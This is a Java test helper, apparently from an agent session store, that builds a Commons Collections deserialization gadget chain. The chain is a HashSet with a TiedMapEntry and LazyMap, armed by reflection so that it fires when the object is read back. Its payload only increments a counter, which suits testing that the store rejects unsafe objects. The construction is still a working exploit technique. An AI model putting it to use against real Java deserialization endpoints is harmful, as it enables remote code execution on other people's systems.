package dev.sojourn.agent.session;

import java.lang.reflect.Field;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/** What an attacker who can write to the store would put there, where the application has an old Commons Collections on its class path. */
public final class GadgetChain {
    static final AtomicInteger RUNS = new AtomicInteger();

    private GadgetChain() {}

    /** What it does. */
    public static void run() {
        RUNS.incrementAndGet();
    }

    /** A value that runs when it is read. */
    static Object create() throws ReflectiveOperationException {
        Transformer[] steps = {
            new ConstantTransformer(GadgetChain.class),
            new InvokerTransformer(
                    "getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"run", new Class<?>[0]}),
            new InvokerTransformer(
                    "invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]})
        };
        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
        Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), chain);
        HashSet<Object> set = new HashSet<>();
        set.add(new TiedMapEntry(lazy, "key"));
        lazy.clear();
        // Only now, or it would run here.
        Field armed = ChainedTransformer.class.getDeclaredField("iTransformers");
        armed.setAccessible(true);
        armed.set(chain, steps);
        return set;
    }
}
